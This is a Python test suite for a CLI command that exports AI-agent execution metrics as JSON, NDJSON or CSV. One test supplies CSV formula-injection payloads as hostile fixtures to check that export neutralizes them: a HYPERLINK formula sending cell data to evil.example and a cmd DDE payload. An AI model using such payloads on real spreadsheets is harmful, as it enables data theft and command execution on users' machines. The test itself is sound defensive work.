"""`pilot metrics export`: every stored field of every execution, as JSON, NDJSON or CSV, streamed; CSV cells
that a spreadsheet would run as formulas are neutralized; files are private."""

from __future__ import annotations

import csv
import io
import json
import stat
import tracemalloc
from pathlib import Path

import pytest

from conftest import ALL_TRANSCRIPTS
from pilot_metrics_plugin.record import ms_to_iso
from pilot_metrics_plugin.reports.export import record_keys
from pilot_metrics_plugin.store import MetricsStore
from report_dataset import ZONE, execution, phases, pilot, write_dataset

# The dataset's executions by start time (UTC): E0 10-28 03:30, E1 10-28 14:00, E9, E10, E2 11-01 03:30,
# E3, E4, E5 11-02 04:30, E6, E7, E8 11-04 03:00, E11 11-04 05:30.
ORDER = ["T0", "T1", "T9", "T10", "T2", "T3", "T4", "T5", "T6", "T7", "T8", "T11"]


@pytest.fixture(scope="module")
def db(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return write_dataset(tmp_path_factory.mktemp("export") / "metrics.db")


def stored_records(db: Path) -> dict[str, dict]:
    """What `pilot metrics show --json` prints for each execution, by task id."""
    store = MetricsStore.open(db)
    ids = [row[0] for row in store.conn.execute("SELECT execution_id FROM executions")]
    records = {}
    for execution_id in ids:
        record = store.load_record(execution_id)
        assert record is not None
        records[record.task_id] = record.to_dict()
    store.close()
    return records


def export(db: Path, capsys, *argv: str) -> str:
    code, out, err = pilot(db, ["metrics", "export", "--db", str(db), *argv], capsys)
    assert (code, err) == (0, "")
    return out


def test_json_export_is_every_execution_oldest_first_exactly_as_show_prints_it(db: Path, capsys) -> None:
    records = json.loads(export(db, capsys, "--format", "json"))
    assert [r["task_id"] for r in records] == ORDER
    stored = stored_records(db)
    assert records == [stored[task_id] for task_id in ORDER]
    # Phases and models are nested: E5 has three phases and two models.
    e5 = records[ORDER.index("T5")]
    assert [p["name"] for p in e5["phases"]] == ["planning", "executing", "testing"]
    assert [(m["model"], m["cost_nano_usd"]) for m in e5["models"]] == [
        ("claude-haiku-4-5-20251001", 1_000_000_000),
        ("claude-sonnet-4-6", 2_000_000_000),
    ]


def test_ndjson_export_is_one_record_per_line(db: Path, capsys) -> None:
    lines = export(db, capsys, "--format", "ndjson").splitlines()
    stored = stored_records(db)
    assert [json.loads(line) for line in lines] == [stored[task_id] for task_id in ORDER]


def test_csv_export_has_one_column_per_record_key_with_nested_values_as_json(db: Path, capsys) -> None:
    rows = list(csv.DictReader(io.StringIO(export(db, capsys, "--format", "csv"))))
    stored = stored_records(db)
    assert list(rows[0]) == record_keys() == list(stored["T1"])
    e1 = rows[ORDER.index("T1")]
    assert (e1["tokens_total"], e1["cost_nano_usd"], e1["cost_source"]) == ("1600", "1500000000", "reported")
    assert json.loads(e1["models"]) == stored["T1"]["models"]
    assert json.loads(e1["phases"]) == stored["T1"]["phases"]
    assert json.loads(e1["agent_command"]) == ["claude", "-p"]
    # Null is an empty cell, booleans are true/false.
    e3 = rows[ORDER.index("T3")]
    assert (e3["cost_nano_usd"], e3["pr_url"], e3["usage_complete"]) == ("", "", "true")


def test_export_takes_the_same_range_and_filters_as_the_reports(db: Path, capsys) -> None:
    lines = export(
        db, capsys, "--format", "ndjson", "--since", "2026-10-28", "--until", "2026-11-03", "--tz", ZONE
    )
    # E0 (10-27 local) and E11 (11-04 local) fall outside.
    assert [json.loads(line)["task_id"] for line in lines.splitlines()] == ORDER[1:-1]
    running = export(db, capsys, "--format", "ndjson", "--status", "running", "--project", "shop")
    assert [json.loads(line)["task_id"] for line in running.splitlines()] == ["T8"]


def test_an_empty_export_is_still_a_valid_document(db: Path, capsys) -> None:
    code, out, err = pilot(
        db,
        [
            "metrics",
            "export",
            "--db",
            str(db),
            "--since",
            "2020-01-01",
            "--until",
            "2020-01-02",
            "--tz",
            "UTC",
        ],
        capsys,
    )
    assert (code, json.loads(out)) == (0, [])
    assert err == "no executions from 2020-01-01 to 2020-01-02 (UTC)\n"


def test_csv_cells_that_start_a_formula_are_neutralized(tmp_path: Path, capsys) -> None:
    db = tmp_path / "metrics.db"
    store = MetricsStore.open(db)
    hostile = {
        "project": '=HYPERLINK("http://evil.example/?"&A1,"click")',
        "task_id": "@SUM(A1:A9)",
        "failure_reason": "+cmd|' /C calc'!A0",
        "failure_category": "-2+3",
        "project_path": "\t=1+1",
        "model_requested": "\r=1",
    }
    row = {**execution(1, "2026-11-01 12:00", "x", "failed", 1000, (0, 0, 0, 0), 0, "reported"), **hostile}
    row["exit_code"] = -9  # a number that starts with "-" stays a number
    store.finish_execution(row, [], [])
    store.close()
    (line,) = csv.DictReader(io.StringIO(export(db, capsys, "--format", "csv")))
    for key, text in hostile.items():
        assert line[key] == "'" + text, key
    assert line["exit_code"] == "-9"
    # JSON keeps the text as it is: it is data there, not a cell.
    (record,) = json.loads(export(db, capsys, "--format", "json"))
    assert record["project"] == hostile["project"]


def test_export_to_a_file_creates_it_private(db: Path, tmp_path: Path, capsys) -> None:
    target = tmp_path / "out.csv"
    target.write_text("old\n")
    target.chmod(0o644)
    argv = ["metrics", "export", "--db", str(db), "--format", "csv", "-o", str(target)]
    code, out, err = pilot(db, argv, capsys)
    assert (code, out, err) == (0, "", f"exported 12 executions to {target}\n")
    assert stat.S_IMODE(target.stat().st_mode) == 0o600
    assert len(list(csv.DictReader(target.open(newline="")))) == 12
    assert sorted(p.name for p in tmp_path.iterdir()) == ["out.csv"]  # no temporary file left


def test_export_to_a_missing_directory_is_one_line_and_exit_2(db: Path, tmp_path: Path, capsys) -> None:
    argv = ["metrics", "export", "--db", str(db), "-o", str(tmp_path / "no" / "x.json")]
    code, out, err = pilot(db, argv, capsys)
    assert (code, out) == (2, "")
    assert err.startswith("pilot: error: cannot write ") and err.count("\n") == 1


def test_export_streams_rows_so_memory_stays_flat(tmp_path: Path, capsys) -> None:
    db = tmp_path / "metrics.db"
    store = MetricsStore.open(db)
    files = json.dumps([f"src/package/module_{n:03d}.py" for n in range(40)])
    rows = [
        (
            f"bulk-{n:05d}",
            f"T{n}",
            "bulk",
            '["claude","-p"]',
            "succeeded",
            1_790_000_000_000 + n * 1000,
            1_790_000_000_000,
            1000 + n,
            n,
            "reported",
            files,
        )
        for n in range(4000)
    ]
    store.transaction(
        lambda conn: conn.executemany(
            "INSERT INTO executions (execution_id, task_id, project, agent_command, status, started_at_ms, "
            "updated_at_ms, duration_ms, cost_nano_usd, cost_source, files_read) "
            "VALUES (?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?)",
            rows,
        )
    )
    store.close()
    target = tmp_path / "bulk.ndjson"
    argv = ["metrics", "export", "--db", str(db), "--format", "ndjson", "-o", str(target)]
    pilot(db, argv, capsys)  # once untraced, so that imported modules do not count
    tracemalloc.start()
    try:
        code, _, _ = pilot(db, argv, capsys)
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert code == 0
    size = target.stat().st_size
    # About 2.5 kB per record, 10 MB in all; holding the rows would take more than that.
    assert size > 7_000_000
    assert peak < size / 10, (peak, size)


# -- every record exactly as show prints it, and the csv module's own bytes ---------------------------------


@pytest.fixture(scope="module")
def recorded(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Every recorded transcript replayed, a day apart; one execution still running with a phase written; and
    one whose model rows were repriced in place after it finished (its stored models are then stale)."""
    from hookspecs.cli import main
    from report_dataset import host_for

    db = tmp_path_factory.mktemp("recorded") / "metrics.db"
    host = host_for(db)
    for n, path in enumerate(ALL_TRANSCRIPTS):
        argv = ["replay", str(path), "--task-id", f"R{n}", "--project", path.name[:20],
                "--started-at", f"2026-10-{n + 1:02d}T09:30:00.123Z"]
        assert main(argv, host=host) in (0, 1)  # an execution that failed exits 1
    store = MetricsStore.open(db)
    running = execution(90, "2026-10-20 08:00", "web", "running", 0, (0, 0, 0, 0), None, "unknown")
    started = ("execution_id", "task_id", "project", "project_path", "agent_command", "started_at_ms")
    store.begin_execution(
        {key: running[key] for key in started}, phases(running["started_at_ms"], ("planning", 1500))
    )
    (repriced,) = store.conn.execute(
        "SELECT execution_id FROM execution_models ORDER BY execution_started_at_ms LIMIT 1"
    ).fetchone()
    store.transaction(lambda conn: conn.execute(
        "UPDATE execution_models SET cost_nano_usd = 4321, cost_source = 'estimated' WHERE execution_id = ?",
        (repriced,)))
    store.close()
    return db


def records_as_shown(db: Path) -> list[dict]:
    """`show --json` of every execution, oldest first."""
    store = MetricsStore.open(db)
    ids = [row[0] for row in store.conn.execute("SELECT execution_id FROM executions ORDER BY started_at_ms")]
    shown = [store.load_record(execution_id).to_dict() for execution_id in ids]  # type: ignore[union-attr]
    store.close()
    return shown


def test_every_exported_record_of_every_recorded_transcript_is_exactly_what_show_prints(
    recorded: Path, capsys
) -> None:
    shown = records_as_shown(recorded)
    assert len(shown) == len(ALL_TRANSCRIPTS) + 1
    assert [json.loads(line) for line in export(recorded, capsys, "--format", "ndjson").splitlines()] == shown
    assert json.loads(export(recorded, capsys, "--format", "json")) == shown
    # The running execution's phase and the repriced model come from their rows.
    (running,) = [record for record in shown if record["task_id"] == "T90"]
    assert [p["name"] for p in running["phases"]] == ["planning"]
    assert 4321 in [m["cost_nano_usd"] for record in shown for m in record["models"]]


def csv_module_bytes(records: list[dict]) -> str:
    """The records as Python's csv module writes them: a header, JSON text for lists and objects (compact),
    empty for null, true/false, a leading ' on a text cell a spreadsheet would run as a formula."""

    def cell(value: object) -> object:
        if value is None:
            return ""
        if isinstance(value, bool):
            return "true" if value else "false"
        if isinstance(value, (int, float)):
            return value
        if isinstance(value, (list, dict)):
            return json.dumps(value, ensure_ascii=False, separators=(",", ":"))
        text = str(value)
        return "'" + text if text.startswith(("=", "+", "-", "@", "\t", "\r")) else text

    out = io.StringIO(newline="")
    writer = csv.writer(out)
    writer.writerow(record_keys())
    writer.writerows([[cell(record[key]) for key in record_keys()] for record in records])
    return out.getvalue()


def test_the_csv_export_is_byte_for_byte_what_the_csv_module_writes_for_the_records(
    recorded: Path, db: Path, capsys
) -> None:
    for database in (recorded, db):
        assert export(database, capsys, "--format", "csv") == csv_module_bytes(records_as_shown(database))


def test_costs_in_dollars_and_times_are_written_as_python_writes_them(tmp_path: Path, capsys) -> None:
    db = tmp_path / "metrics.db"
    store = MetricsStore.open(db)
    # Nano-dollar costs where Python's float text changes form (0.0, e-notation below 1e-4, up to 17
    # digits) and times at the edges of a second, a day and a century.
    costs = [0, 1, 9, 10, 5000, 12345, 99999, 100000, 100001, 123456789, 1_500_000_000, 2_000_000_000,
             10**14, 999_999_999_999_999, -5000, -123456789]
    times = [0, 999, 1000, 59_999, 86_399_999, 1_764_000_000_005, 4_102_444_799_999]
    for n, cost in enumerate(costs):
        started = times[n % len(times)]
        row = execution(n, "2026-11-01 12:00", "p", "succeeded", 1, (0, 0, 0, 0), cost, "reported")
        row.update(started_at_ms=started, ended_at_ms=started + 999 + n)
        store.finish_execution(row, [], [])
    store.close()
    lines = export(db, capsys, "--format", "ndjson").splitlines()
    for line in lines:
        record = json.loads(line)
        # The text itself, not only the value: `"cost_usd":<Python's float text>`.
        assert f'"cost_usd":{json.dumps(record["cost_nano_usd"] / 10**9)}' in line
        assert f'"started_at":"{ms_to_iso(row_ms(record["execution_id"], db))}"' in line
    assert sorted(json.loads(line)["cost_nano_usd"] for line in lines) == sorted(costs)


def row_ms(execution_id: str, db: Path) -> int:
    store = MetricsStore.open(db)
    sql = "SELECT started_at_ms FROM executions WHERE execution_id = ?"
    (ms,) = store.conn.execute(sql, (execution_id,)).fetchone()
    store.close()
    return ms
